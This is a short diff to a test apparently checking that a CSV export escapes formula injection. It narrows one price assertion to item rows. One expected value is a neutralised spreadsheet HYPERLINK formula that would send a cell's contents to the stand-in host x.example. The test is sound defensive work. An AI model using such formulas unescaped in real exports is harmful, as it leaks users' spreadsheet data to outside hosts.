@@ -45,7 +45,7 @@ describe('CSV formula injection', () => {
       const sw = rows.find((r) => r.category === 'switch')!;
       expect([sw.model, sw.name, sw.vendor, sw.currency]).toEqual([`'${CLASSIC_TEXTS.switchModel}`, `'${CLASSIC_TEXTS.switchName}`, `'${CLASSIC_TEXTS.offerVendor}`, `'${CLASSIC_TEXTS.currency}`]);
       expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A2,""Click"")"`);
-      expect(rows.every((r) => Number(r.extendedPrice) > 0 && !r.extendedPrice.startsWith("'"))).toBe(true);
+      expect(rows.filter((r) => r.row === 'item').every((r) => Number(r.extendedPrice) > 0 && !r.extendedPrice.startsWith("'"))).toBe(true);
     }
   });
 
